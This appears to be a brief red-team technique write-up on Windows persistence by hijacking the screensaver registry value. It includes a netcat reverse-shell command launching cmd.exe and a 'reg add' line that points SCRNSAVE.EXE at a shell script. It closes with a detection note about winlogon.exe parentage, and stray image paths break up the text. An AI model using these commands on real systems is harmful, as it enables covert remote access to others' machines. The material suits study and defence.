Screensaver Hijack

Hijacking screensaver for persistence.


To achieve persistence, the attacker can modify SCRNSAVE.EXE value in the registry HKCU\Control Panel\Desktop\ and change its data to point to any malicious file.

In this test, I will use a netcat reverse shell as my malicious payload:C:\tools\nc.exe 443 -ecmd.exe

Let's update the registry:

The same could be achieved using a native Windows binary reg.exe:

reg add "hkcu\control panel\desktop" /v SCRNSAVE.EXE /d c:\shell.cmd


Note the process ancestry on the victim system - the reverse shell process tracesback to winlogon.exe as the parent process, which is responsible for managing userlogons/logoffs. This is highlysuspect and should warrant afurther investigation:


Last updated